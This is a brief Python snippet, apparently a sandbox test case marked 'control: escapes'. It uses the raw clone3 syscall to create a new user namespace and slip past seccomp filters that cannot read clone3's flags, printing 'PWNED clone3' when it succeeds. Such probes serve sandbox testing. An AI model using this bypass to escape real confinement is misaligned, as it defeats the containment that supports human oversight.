# The same by clone3, whose flags no filter can read.
# control: escapes
import ctypes
import os
import struct

arguments = ctypes.create_string_buffer(struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0))
result = ctypes.CDLL(None).syscall(435, arguments, ctypes.c_ulong(64))
if result == 0:
    os._exit(0)
if result > 0:
    print("PWNED clone3")
